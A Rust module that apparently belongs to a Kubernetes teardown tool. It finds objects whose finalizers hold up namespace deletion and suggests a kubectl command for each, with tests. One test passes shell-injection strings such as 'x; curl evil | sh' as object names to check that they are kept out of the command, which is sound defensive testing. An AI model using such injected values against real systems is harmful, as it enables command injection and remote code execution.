//! The objects with finalizers that keep a namespace from being gone, each with a command for a person.

use futures::future::try_join_all;
use k8s_openapi::api::core::v1::Pod;
use kube::{
    Api, Client, ResourceExt,
    api::{DynamicObject, ListParams},
    core::{ApiResource, ObjectMeta},
};

use berth_manifests::render::KINDS;
use berth_workflows::contract::teardown::Remaining;

use crate::{
    failure::Failure,
    kubernetes::{kind_api::api_resource, permitted::permitted},
};

/// The most objects that a report names. It is kept in a history and read by a person; the rest is counted.
const MAX_NAMED: usize = 20;

/// The start of a reason that names finalizers.
const FINALIZERS: &str = "waits for the finalizer ";

/// The objects to look for.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Which {
    All,
    BeingDeleted,
}

/// The objects found, and the kinds that berth may not list (any more).
#[derive(Default)]
pub(super) struct Held {
    pub(super) found: Vec<Remaining>,
    pub(super) refused: Vec<&'static str>,
}

/// Returns the objects with a finalizer, of every kind that berth may list. Pods that are ending are included.
pub(super) async fn held(client: &Client, namespace: &str, which: Which) -> Result<Held, Failure> {
    let mut kinds: Vec<(ApiResource, &'static str, &'static str)> = vec![(ApiResource::erase::<Pod>(&()), "Pod", "")];
    for kind in KINDS.iter().filter(|kind| kind.namespaced) {
        // A kind in two versions is one list.
        if !kinds.iter().any(|(_, name, group)| (*name, *group) == (kind.kind.as_ref(), kind.group.as_ref())) {
            kinds.push((api_resource(kind), &kind.kind, &kind.group));
        }
    }
    let lists = kinds.iter().map(|(resource, kind, group)| held_of(client, namespace, which, resource, kind, group));
    let mut held = Held::default();
    for (answer, (_, kind, _)) in try_join_all(lists).await?.into_iter().zip(&kinds) {
        match answer {
            Some(found) => held.found.extend(found),
            None => held.refused.push(kind),
        }
    }
    Ok(held)
}

/// Returns `None` if berth may not list the kind.
async fn held_of(
    client: &Client,
    namespace: &str,
    which: Which,
    resource: &ApiResource,
    kind: &str,
    group: &str,
) -> Result<Option<Vec<Remaining>>, Failure> {
    let objects = Api::<DynamicObject>::namespaced_with(client.clone(), namespace, resource);
    let listed = objects.list_metadata(&ListParams::default()).await;
    let Some(listed) = permitted(listed, || format!("listing {}", resource.plural))? else { return Ok(None) };
    let is_meant = |metadata: &ObjectMeta| match &metadata.deletion_timestamp {
        Some(_) => kind == "Pod" || metadata.finalizers.is_some(),
        None => which == Which::All && metadata.finalizers.is_some(),
    };
    let found = listed.items.iter().filter(|object| is_meant(&object.metadata));
    Ok(Some(found.map(|object| entry(namespace, kind, group, &object.name_any(), object.finalizers())).collect()))
}

/// Returns the report's entry of an object. An empty namespace means a cluster-scoped object.
pub(super) fn entry(namespace: &str, kind: &str, group: &str, name: &str, finalizers: &[String]) -> Remaining {
    let resource = kind.to_lowercase() + if group.is_empty() { "" } else { "." } + group;
    let mut target = format!("{resource}/{name}");
    if !namespace.is_empty() {
        target += &format!(" -n {namespace}");
    }
    let (reason, command) = match (finalizers, kind) {
        ([], "Pod") => ("its containers have not stopped".to_owned(), format!("kubectl delete {target} --force")),
        ([], _) => ("was deleted and still exists".to_owned(), String::new()),
        _ => (
            format!("{FINALIZERS}{}", finalizers.join(", ")),
            format!(r#"kubectl patch {target} --type=json -p='[{{"op":"remove","path":"/metadata/finalizers"}}]'"#),
        ),
    };
    let command = if is_plain(name) { command } else { listing(namespace) };
    Remaining { object: format!("{kind}/{name}"), reason, command }
}

/// Returns the report's entry of a cluster-scoped object of a recorded name, without the environment's labels.
pub(super) fn without_labels(kind: &str, group: &str, name: &str) -> Remaining {
    let resource = kind.to_lowercase() + if group.is_empty() { "" } else { "." } + group;
    Remaining {
        object: format!("{kind}/{name}"),
        reason: "has not the labels of this environment, and may be another owner's".to_owned(),
        command: if is_plain(name) { format!("kubectl delete {resource}/{name}") } else { String::new() },
    }
}

/// A command that finds objects with finalizers of the kinds that berth does not know.
pub(super) fn listing(namespace: &str) -> String {
    format!(
        "kubectl api-resources --verbs=list --namespaced -o name | xargs -n1 kubectl get -n {namespace} --ignore-not-found \
         -o custom-columns=KIND:.kind,NAME:.metadata.name,FINALIZERS:.metadata.finalizers"
    )
}

/// Returns whether a name is safe in a shell. Names of some kinds (roles) may contain anything.
pub(super) fn is_plain(name: &str) -> bool {
    name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b':' | b'_'))
}

/// Returns the finalizers that an entry names.
pub(super) fn finalizers(remaining: &Remaining) -> impl Iterator<Item = &str> {
    remaining.reason.strip_prefix(FINALIZERS).into_iter().flat_map(|list| list.split(", "))
}

/// Returns whether an entry is about an object of the kind.
pub(super) fn is_of(remaining: &Remaining, kind: &str) -> bool {
    remaining.object.strip_prefix(kind).is_some_and(|rest| rest.starts_with('/'))
}

/// Limits a report to the objects that a person reads.
pub(super) fn bounded(mut objects: Vec<Remaining>, namespace: &str) -> Vec<Remaining> {
    let more = objects.len().saturating_sub(MAX_NAMED);
    objects.truncate(MAX_NAMED);
    if more > 0 {
        let object = format!("{more} more of Namespace/{namespace}");
        objects.push(Remaining { object, reason: "as those above".to_owned(), command: String::new() });
    }
    objects
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stuck(kind: &str, group: &str, name: &str) -> Remaining {
        entry("pr-1", kind, group, name, &["example.com/stuck".to_owned()])
    }

    #[test]
    fn the_command_removes_the_finalizers_of_that_object() {
        let remaining = stuck("ConfigMap", "", "x");
        assert_eq!(remaining.object, "ConfigMap/x");
        assert_eq!(remaining.reason, "waits for the finalizer example.com/stuck");
        let patch = r#"'[{"op":"remove","path":"/metadata/finalizers"}]'"#;
        assert_eq!(remaining.command, format!("kubectl patch configmap/x -n pr-1 --type=json -p={patch}"));
        assert!(stuck("Deployment", "apps", "web").command.contains(" deployment.apps/web -n pr-1 "));
        assert_eq!(finalizers(&remaining).collect::<Vec<_>>(), ["example.com/stuck"]);
        assert!(is_of(&remaining, "ConfigMap") && !is_of(&remaining, "Config"));
        let outside = entry("", "PriorityClass", "scheduling.k8s.io", "web-pr-1-1", &["example.com/stuck".to_owned()]);
        assert!(outside.command.starts_with("kubectl patch priorityclass.scheduling.k8s.io/web-pr-1-1 --type=json"));
    }

    #[test]
    fn a_name_with_shell_syntax_is_not_in_the_command() {
        for name in ["x; curl evil | sh", "x`id`", "x' '$(id)"] {
            let remaining = stuck("Role", "rbac.authorization.k8s.io", name);
            assert_eq!(remaining.command, listing("pr-1"), "{name}");
        }
        assert!(stuck("Role", "rbac.authorization.k8s.io", "system:x").command.contains("/system:x -n pr-1 "));
    }

    #[test]
    fn objects_beyond_the_limit_are_counted() {
        let objects: Vec<_> = (0..50).map(|n| stuck("ConfigMap", "", &n.to_string())).collect();
        let bounded = bounded(objects, "pr-1");
        assert_eq!(bounded.len(), MAX_NAMED + 1);
        assert_eq!(bounded.last().unwrap().object, "30 more of Namespace/pr-1");
    }
}
